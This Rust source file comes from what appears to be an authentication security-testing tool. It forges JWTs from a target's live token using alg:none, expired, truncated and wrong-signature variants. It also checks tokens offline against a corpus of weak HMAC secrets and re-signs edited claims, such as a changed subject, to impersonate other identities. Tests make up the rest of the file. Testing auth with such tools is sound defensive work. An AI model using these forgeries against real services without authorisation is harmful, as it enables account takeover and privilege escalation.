//! Credential forgeries for `bad-auth`, built from an identity's live token, and the
//! offline check of a JWT against the weak-secret corpus (an HMAC computed locally: no
//! request is sent to learn that a server signs with a known key).

use crate::request::{weak_secrets, Forgery};
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use base64::Engine;
use hmac::{Hmac, Mac};
use serde_json::{Map, Value};
use sha2::Sha256;

type HmacSha256 = Hmac<Sha256>;

/// The key behind [`Forgery::WrongSignature`]: not the server's, and not in the corpus.
const WRONG_KEY: &[u8] = b"rolegrid-wrong-signature-key-7f3c9a";

/// The forged token, or why this forgery does not apply to this token.
/// [`Forgery::WeakSecret`] is built by [`resign`], which needs the other identity's claims.
pub fn forge(token: &str, forgery: Forgery, now_unix: u64) -> Result<String, &'static str> {
    match forgery {
        Forgery::Garbage => Ok("rolegrid-not-a-valid-token".to_string()),
        Forgery::AlgNone => {
            let (_, payload, _) = split(token)?;
            let header = URL_SAFE_NO_PAD.encode(br#"{"alg":"none","typ":"JWT"}"#);
            Ok(format!("{header}.{payload}."))
        }
        Forgery::Expired => {
            let (header, _, signature) = split(token)?;
            let mut claims = claims(token)?;
            claims.insert("exp".into(), Value::from(now_unix.saturating_sub(3600)));
            let payload = URL_SAFE_NO_PAD.encode(Value::Object(claims).to_string());
            Ok(format!("{header}.{payload}.{signature}"))
        }
        Forgery::Truncated => match split(token) {
            Ok((header, payload, signature)) if signature.len() >= 2 => {
                // A target's token may hold any text: cut on a character boundary (a byte
                // index inside a multi-byte character panicked; found by the fuzz pass).
                let mut cut = signature.len() / 2;
                while !signature.is_char_boundary(cut) {
                    cut -= 1;
                }
                Ok(format!("{header}.{payload}.{}", &signature[..cut]))
            }
            Ok(_) => Err("the token's signature is too short to truncate"),
            // Opaque tokens: the first half, for servers that compare a prefix.
            Err(_) if token.len() >= 2 && token.is_ascii() => Ok(token[..token.len() / 2].into()),
            Err(_) => Err("the token is too short to truncate"),
        },
        Forgery::WrongSignature => {
            let (header, payload, _) = split(token)?;
            Ok(sign_with(header, payload, WRONG_KEY))
        }
        Forgery::WeakSecret { .. } => Err("a weak-secret forgery is built by `resign`"),
    }
}

/// The JWT's payload claims, when the token is a JWT with a JSON object payload.
pub fn claims(token: &str) -> Result<Map<String, Value>, &'static str> {
    let (_, payload, _) = split(token)?;
    let bytes = URL_SAFE_NO_PAD
        .decode(payload.trim_end_matches('='))
        .map_err(|_| "the token's payload is not base64url")?;
    match serde_json::from_slice(&bytes).map_err(|_| "the token's payload is not JSON")? {
        Value::Object(map) => Ok(map),
        _ => Err("the token's payload is not a JSON object"),
    }
}

/// The corpus line of the weak secret `token` verifies under, if any: the token must be
/// an HS256 JWT, and its own signature must match an HMAC computed here with the corpus
/// secret. Purely local: the server is never asked.
pub fn weak_secret_line(token: &str) -> Option<u32> {
    let (raw_header, payload, signature) = split(token).ok()?;
    let header: Value = serde_json::from_slice(
        &URL_SAFE_NO_PAD
            .decode(raw_header.trim_end_matches('='))
            .ok()?,
    )
    .ok()?;
    if header.get("alg").and_then(Value::as_str) != Some("HS256") {
        return None;
    }
    let signature = URL_SAFE_NO_PAD
        .decode(signature.trim_end_matches('='))
        .ok()?;
    let signing_input = format!("{raw_header}.{payload}");
    weak_secrets().find_map(|(line, secret)| {
        let mut mac = HmacSha256::new_from_slice(secret.as_bytes()).ok()?;
        mac.update(signing_input.as_bytes());
        mac.verify_slice(&signature).is_ok().then_some(line)
    })
}

/// `token`'s claims with `edits` applied and a fresh lifetime (`iat` now, `exp` an hour
/// on, where the token has them), signed HS256 with `secret`.
pub fn resign(
    token: &str,
    secret: &[u8],
    edits: &Map<String, Value>,
    now_unix: u64,
) -> Result<String, &'static str> {
    let (header, _, _) = split(token)?;
    let mut claims = claims(token)?;
    for (k, v) in edits {
        claims.insert(k.clone(), v.clone());
    }
    if claims.contains_key("iat") {
        claims.insert("iat".into(), Value::from(now_unix));
    }
    if claims.contains_key("exp") {
        claims.insert("exp".into(), Value::from(now_unix.saturating_add(3600)));
    }
    let payload = URL_SAFE_NO_PAD.encode(Value::Object(claims).to_string());
    Ok(sign_with(header, &payload, secret))
}

fn sign_with(header: &str, payload: &str, key: &[u8]) -> String {
    let signing_input = format!("{header}.{payload}");
    let signature = match HmacSha256::new_from_slice(key) {
        Ok(mut mac) => {
            mac.update(signing_input.as_bytes());
            URL_SAFE_NO_PAD.encode(mac.finalize().into_bytes())
        }
        // HMAC takes keys of any length; this arm is never reached.
        Err(_) => String::new(),
    };
    format!("{signing_input}.{signature}")
}

fn split(token: &str) -> Result<(&str, &str, &str), &'static str> {
    let mut parts = token.split('.');
    match (parts.next(), parts.next(), parts.next(), parts.next()) {
        (Some(h), Some(p), Some(s), None) if !h.is_empty() && !p.is_empty() => Ok((h, p, s)),
        _ => Err("the credential is not a JWT"),
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(
            std::env::var("PROPTEST_CASES").ok().and_then(|c| c.parse().ok()).unwrap_or(96)
        ))]

        /// Tokens from a target are anything: three dot-separated parts of noise, a real
        /// token with bytes changed, no dots at all. Reading or re-signing one never panics.
        #[test]
        fn any_token_from_a_target_never_panics(
            token in prop_oneof![
                any::<String>(),
                "[A-Za-z0-9_=+/-]{0,40}\\.[A-Za-z0-9_=+/-]{0,80}\\.[A-Za-z0-9_=+/-]{0,40}",
                (any::<String>(), any::<String>()).prop_map(|(h, p)| format!(
                    "{}.{}.sig",
                    URL_SAFE_NO_PAD.encode(h),
                    URL_SAFE_NO_PAD.encode(p)
                )),
            ],
            now in any::<u64>(),
        ) {
            let _ = claims(&token);
            let _ = weak_secret_line(&token);
            for forgery in [Forgery::AlgNone, Forgery::WrongSignature, Forgery::Expired, Forgery::Truncated] {
                let _ = forge(&token, forgery, now);
            }
        }
    }

    use super::*;
    use crate::request::weak_secret_at;

    fn token() -> String {
        let h = URL_SAFE_NO_PAD.encode(br#"{"alg":"HS256","typ":"JWT"}"#);
        let p = URL_SAFE_NO_PAD.encode(br#"{"sub":"1","exp":9999999999}"#);
        format!("{h}.{p}.c2lnbmF0dXJl")
    }

    fn signed(claims: &str, key: &[u8]) -> String {
        let h = URL_SAFE_NO_PAD.encode(br#"{"alg":"HS256","typ":"JWT"}"#);
        let p = URL_SAFE_NO_PAD.encode(claims.as_bytes());
        sign_with(&h, &p, key)
    }

    fn verifies(token: &str, key: &[u8]) -> bool {
        let Some((input, signature)) = token.rsplit_once('.') else {
            return false;
        };
        let Ok(signature) = URL_SAFE_NO_PAD.decode(signature) else {
            return false;
        };
        let Ok(mut mac) = HmacSha256::new_from_slice(key) else {
            return false;
        };
        mac.update(input.as_bytes());
        mac.verify_slice(&signature).is_ok()
    }

    #[test]
    fn alg_none_keeps_claims_and_drops_signature() {
        let forged = forge(&token(), Forgery::AlgNone, 0).expect("jwt");
        let parts: Vec<&str> = forged.split('.').collect();
        assert_eq!(parts.len(), 3);
        assert_eq!(parts[2], "");
        let header = URL_SAFE_NO_PAD.decode(parts[0]).expect("b64");
        assert!(String::from_utf8_lossy(&header).contains("\"none\""));
    }

    #[test]
    fn expired_moves_exp_into_the_past() {
        let forged = forge(&token(), Forgery::Expired, 10_000).expect("jwt");
        let claims = claims(&forged).expect("claims");
        assert_eq!(claims["exp"], 6400);
        assert!(forged.ends_with(".c2lnbmF0dXJl"));
    }

    /// Regression (fuzz pass, 20,000 cases): a signature of non-ASCII text was cut inside
    /// a character.
    #[test]
    fn truncating_a_non_ascii_signature_cuts_on_a_character_boundary() {
        assert_eq!(
            forge("0.\u{10c00}.\u{103c8}", Forgery::Truncated, 0).as_deref(),
            Ok("0.\u{10c00}.")
        );
        assert_eq!(
            forge("h.p.ab\u{e9}cd", Forgery::Truncated, 0).as_deref(),
            Ok("h.p.ab")
        );
    }

    #[test]
    fn truncated_halves_the_signature_or_the_opaque_token() {
        let forged = forge(&token(), Forgery::Truncated, 0).expect("jwt");
        assert!(forged.ends_with(".c2lnbm"), "{forged}");
        assert_eq!(claims(&forged), claims(&token()));
        assert_eq!(
            forge("abcdefgh", Forgery::Truncated, 0).as_deref(),
            Ok("abcd")
        );
        assert!(forge("a", Forgery::Truncated, 0).is_err());
    }

    #[test]
    fn wrong_signature_keeps_claims_and_does_not_verify_under_the_real_key() {
        let real = signed(r#"{"sub":"1"}"#, b"real-key");
        let forged = forge(&real, Forgery::WrongSignature, 0).expect("jwt");
        assert_eq!(claims(&forged), claims(&real));
        assert_ne!(forged, real);
        assert!(!verifies(&forged, b"real-key"));
        assert!(verifies(&forged, WRONG_KEY));
        assert_eq!(
            weak_secret_line(&forged),
            None,
            "the wrong key is no corpus secret"
        );
    }

    #[test]
    fn offline_check_finds_the_corpus_line_of_a_weak_key() {
        let weak = signed(r#"{"sub":"1"}"#, b"your-256-bit-secret");
        let line = weak_secret_line(&weak).expect("weak key found");
        assert_eq!(weak_secret_at(line), Some("your-256-bit-secret"));
        // A random key, another algorithm, or no JWT at all: nothing found.
        assert_eq!(
            weak_secret_line(&signed(r#"{"sub":"1"}"#, b"Zq8#random")),
            None
        );
        let h = URL_SAFE_NO_PAD.encode(br#"{"alg":"HS512"}"#);
        let (_, rest) = weak.split_once('.').expect("jwt");
        assert_eq!(weak_secret_line(&format!("{h}.{rest}")), None);
        assert_eq!(weak_secret_line("opaque-token"), None);
        assert_eq!(weak_secret_line("a.!!.c"), None);
    }

    #[test]
    fn resign_applies_edits_refreshes_lifetime_and_verifies_under_the_secret() {
        let real = signed(
            r#"{"sub":"1","role":"client","iat":5,"exp":10}"#,
            b"changeme",
        );
        let mut edits = Map::new();
        edits.insert("sub".into(), Value::from("4"));
        let forged = resign(&real, b"changeme", &edits, 1_000).expect("jwt");
        let c = claims(&forged).expect("claims");
        assert_eq!(c["sub"], "4");
        assert_eq!(c["role"], "client");
        assert_eq!(c["iat"], 1_000);
        assert_eq!(c["exp"], 4_600);
        assert!(verifies(&forged, b"changeme"));
        assert!(weak_secret_line(&forged).is_some());
        assert!(resign("opaque", b"k", &edits, 0).is_err());
    }

    /// Common defaults from framework docs and tutorials are all in the corpus.
    #[test]
    fn the_corpus_holds_the_common_defaults() {
        let corpus: std::collections::HashSet<&str> = weak_secrets().map(|(_, s)| s).collect();
        assert!(corpus.len() > 3_000, "{} weak secrets", corpus.len());
        for default in [
            "secret",
            "your-256-bit-secret",
            "changeme",
            "supersecret",
            "jwt_secret",
            "JWT_SECRET",
            "secretkey",
            "SECRET_KEY",
            "mysecret",
            "s3cr3t",
            "your_jwt_secret",
            "keyboard cat",
        ] {
            assert!(corpus.contains(default), "{default} is missing");
        }
    }

    /// Every identity's token is checked against the whole corpus before any probe is
    /// sent: one token that verifies under none of it (every HMAC computed) and one under
    /// its last secret stay cheap. Prints the time; the bound is loose for debug builds on
    /// a loaded machine.
    #[test]
    fn checking_a_token_against_the_whole_corpus_is_fast() {
        let (last_line, last) = weak_secrets().last().expect("a secret");
        let weak = signed(r#"{"sub":"1"}"#, last.as_bytes());
        let strong = signed(r#"{"sub":"1"}"#, b"Zq8#random-and-not-in-the-corpus");
        let started = std::time::Instant::now();
        assert_eq!(weak_secret_line(&weak), Some(last_line));
        assert_eq!(weak_secret_line(&strong), None);
        let per_token = started.elapsed() / 2;
        eprintln!(
            "{} secrets: {per_token:?} per token",
            weak_secrets().count()
        );
        assert!(
            per_token < std::time::Duration::from_millis(500),
            "{per_token:?}"
        );
    }

    #[test]
    fn non_jwt_is_refused_not_panicking() {
        assert!(forge("opaque", Forgery::AlgNone, 0).is_err());
        assert!(forge("opaque", Forgery::WrongSignature, 0).is_err());
        assert!(forge("a.b", Forgery::Expired, 0).is_err());
        assert!(forge("a.!!.c", Forgery::Expired, 0).is_err());
    }
}
